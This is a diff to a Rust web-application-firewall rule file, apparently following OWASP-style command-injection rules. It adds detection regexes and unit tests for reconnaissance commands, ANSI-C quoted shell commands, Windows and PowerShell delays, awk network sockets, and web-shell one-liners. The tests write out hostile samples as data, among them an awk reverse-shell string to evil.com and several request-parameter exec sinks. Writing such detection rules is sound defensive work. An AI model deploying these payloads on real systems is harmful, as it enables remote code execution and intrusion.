@@ -126,9 +126,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
             // A variable assigned and then run as the command (`CMD=$'id';$CMD`), or
             // ANSI-C quoting next to a separator: shell, never prose.
             Regex(
-                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]"##,
+                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}"##,
             ),
-            "Shell variable run as a command",
+            "Shell variable or ANSI-C quoted command",
         ),
         rule(
             932109,
@@ -145,6 +145,37 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 r"\s*(?:$|[;|&])"
             )),
             "Value is a network probe command",
+        ),
+        rule(
+            932112,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            CMD,
+            // Reconnaissance that only a shell writes: `find` on a directory with a
+            // test (`find / -perm -4000`), as the value or after a separator; network
+            // state (`ip addr`, `ss -tlnp`, `lsof -i`) after a separator.
+            Regex(
+                r"(?:^|[;|&\n\r`]|\$\()\s*(?:sudo\s+)?find\s+[/.~]\S*\s+(?:\S+\s+)*?-(?:name|iname|perm|type|user|group|newer|writable|readable|executable|exec|size|mtime|uid|gid|regex)\b|(?:[;|&\n\r`]|\$\()\s*(?:sudo\s+)?(?:ip\s+(?:-\w+\s+)*(?:a|addr|address|r|route|l|link|n|neigh|neighbou?r)(?:\s+(?:show|list|ls))?|ss\s+-[a-z]*[tulp][a-z]*|lsof\s+-i\w*|arp\s+-an?|iptables\s+-[ls]\w*)\s*(?:$|[;|&`#)])",
+            ),
+            "Reconnaissance command",
+        ),
+        rule(
+            932114,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            DEC,
+            // A one-liner that hands a request parameter to a command or code sink
+            // (`os.system(request.args.get('cmd'))`, `IO.popen(params[:cmd])`,
+            // `eval(req.query.code)`, `.Exec(Request("cmd"))`), a shell object
+            // created from script, or a Perl pipe open (`open(CMD,"$input|")`).
+            Regex(
+                r##"(?:\b(?:os\.(?:system|popen|exec\w*|spawn\w*)|subprocess\.\w+|commands\.getoutput|kernel\.\w+|io\.popen|open3\.\w+|system|exec|execsync|spawn\w*|eval|instance_eval|class_eval|compile|popen|shell_exec|passthru|getruntime\(\)\.exec|process\.start)\s*\(\s*(?:[\w.]+\s*\(\s*)*(?:request\.(?:args|form|values|params|get|post|json|data|cookies|headers|querystring|query|body|getparameter)\b|request\s*\(|params\s*\[|req\.(?:query|body|params|cookies|headers)\b|\$input\b|cgi\.))|\bcreateobject\s*\(\s*["']?(?:wscript\.shell|shell\.application)|\bopen\s*\(\s*\w+\s*,\s*["'](?:\|[^"']*|[^"']*\|\s*)["']"##,
+            ),
+            "Code or command sink fed by a request parameter",
         ),
         rule(
             932200,
@@ -166,7 +197,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"(?:^|[;|&\n\r(`])\s*(?:cmd(?:\.exe)?\s+/[ckr]|powershell(?:\.exe)?\s+-|net\s+(?:user|localgroup|view|share|use|group|accounts)\b|(?:type|dir|copy|del|more)\s+[a-z]:|ping\s+-n\s+\d|reg\s+(?:query|add|delete|save)\b|wmic\s+\w|sc\s+(?:query|create|start|config)\b|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+/|vssadmin\s|whoami\s+/|netsh\s+(?:firewall|advfirewall|interface|int|wlan|winhttp)\b)|%(?:comspec|systemroot|windir|programfiles|userprofile)%|[a-z]:\\windows\\system32\\"##,
+                r##"(?:^|[;|&\n\r(`])\s*(?:cmd(?:\.exe)?\s+/[ckr]|powershell(?:\.exe)?\s+-|net\s+(?:user|localgroup|view|share|use|group|accounts)\b|(?:type|dir|copy|del|more)\s+[a-z]:|ping\s+-n\s+\d|reg\s+(?:query|add|delete|save)\b|wmic\s+\w|sc\s+(?:query|create|start|config)\b|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+/|vssadmin\s|whoami\s+/|netsh\s+(?:firewall|advfirewall|interface|int|wlan|winhttp)\b|waitfor\s+(?:/si\s+)?(?:[\w.-]+\s+)?/t\s+\d|choice\s+(?:/[a-z]+(?::\S+)?\s+(?:\S+\s+)?)*?/t\s*[:\s]?\d)|%(?:comspec|systemroot|windir|programfiles|userprofile)%|[a-z]:\\windows\\system32\\"##,
             ),
             "Windows command",
         ),
@@ -178,7 +209,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"\b(?:invoke-(?:expression|webrequest|command|shellcode|mimikatz)|iex\s*\(|new-object\s+(?:net\.webclient|system\.net)|downloadstring\s*\(|downloadfile\s*\(|start-process\b|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|set-mppreference\b|get-wmiobject\b|(?:get-content|get-childitem)\s+[a-z]:)"##,
+                r##"\b(?:invoke-(?:expression|webrequest|command|shellcode|mimikatz)|iex\s*\(|new-object\s+(?:net\.webclient|system\.net)|downloadstring\s*\(|downloadfile\s*\(|start-process\b|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|set-mppreference\b|start-sleep\s+(?:-s(?:econds)?\s+|-m(?:illiseconds)?\s+)?\d|get-wmiobject\b|(?:get-content|get-childitem)\s+[a-z]:)"##,
             ),
             "PowerShell command",
         ),
@@ -206,7 +237,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"/dev/(?:tcp|udp)/|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\|"##,
+                r##"/dev/(?:tcp|udp)/|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
             ),
             "Reverse shell or remote script execution",
         ),
@@ -329,5 +360,76 @@ mod tests {
         assert!(!fires(932111, "sleep 8 hours"));
         assert!(!fires(932111, "sleep apnea treatment"));
         assert!(!fires(932111, "sleep"));
+    }
+
+    #[test]
+    fn windows_delays_and_awk_sockets_fire_but_prose_does_not() {
+        assert!(fires(932110, "; waitfor /t 5 pause"));
+        assert!(fires(932110, "&waitfor SomethingThatNeverHappens /t 10"));
+        assert!(fires(932110, "; choice /t 5 /d y"));
+        assert!(fires(932110, "|choice /c yn /d y /t 5"));
+        assert!(!fires(932110, "a choice to wait for the train"));
+        assert!(!fires(932110, "we waitfor nobody; choice is yours"));
+        assert!(fires(
+            932140,
+            "awk 'BEGIN {s = \"/inet/tcp/0/evil.com/4444\"}'"
+        ));
+        assert!(!fires(932140, "the /inet/ folder"));
+    }
+
+    #[test]
+    fn recon_commands_fire_but_prose_about_them_does_not() {
+        assert!(fires(932112, ";find / -name '*.conf' 2>/dev/null"));
+        assert!(fires(932112, "find / -perm -4000 -type f"));
+        assert!(fires(932112, "| find . -writable"));
+        assert!(fires(932112, ";ip addr"));
+        assert!(fires(932112, "&& ip -4 route show"));
+        assert!(fires(932112, "; ss -tlnp"));
+        assert!(!fires(932112, "find a place to stay -name unknown"));
+        assert!(!fires(932112, "what is my ip address"));
+        assert!(!fires(932112, "ip addr"));
+        assert!(!fires(932112, "to find / -name things, see the manual"));
+    }
+
+    #[test]
+    fn powershell_sleep_fires_but_prose_does_not() {
+        assert!(fires(932120, "; Start-Sleep -s 5"));
+        assert!(fires(932120, "powershell start-sleep 10"));
+        assert!(!fires(932120, "start sleeping at 10"));
+    }
+
+    #[test]
+    fn ansi_c_quoted_commands_fire() {
+        assert!(fires(932108, ";$'\\151\\144'"));
+        assert!(fires(932108, "$'\\x69\\x64'"));
+        assert!(!fires(932108, "it costs $'5' or so"));
+        assert!(!fires(932108, "$'\\n'"));
+    }
+
+    #[test]
+    fn one_liners_running_a_request_parameter_fire_but_code_talk_does_not() {
+        for a in [
+            "import os;os.system(request.args.get('cmd'))",
+            "import subprocess;subprocess.call(request.args.get('cmd'),shell=True)",
+            "eval(compile(request.args.get('code'),'<string>','exec'))",
+            "IO.popen(params[:cmd]).read",
+            "eval(params[:code])",
+            "Kernel.exec(params[:cmd])",
+            "eval(req.query.code)",
+            "<%Set o=Server.CreateObject(\"WSCRIPT.SHELL\"):Set r=o.Exec(Request(\"cmd\"))%>",
+            "open(CMD,\"$input|\");while(<CMD>){print}",
+            "Runtime.getRuntime().exec(request.getParameter(\"c\"))",
+        ] {
+            assert!(fires(932114, a), "missed {a}");
+        }
+        for b in [
+            "the system (request queue) is full",
+            "eval(code) runs a string",
+            "open(FILE, \"<data.txt\")",
+            "params[:id] is the record id",
+            "compile request args into a report",
+        ] {
+            assert!(!fires(932114, b), "flagged {b}");
+        }
     }
 }
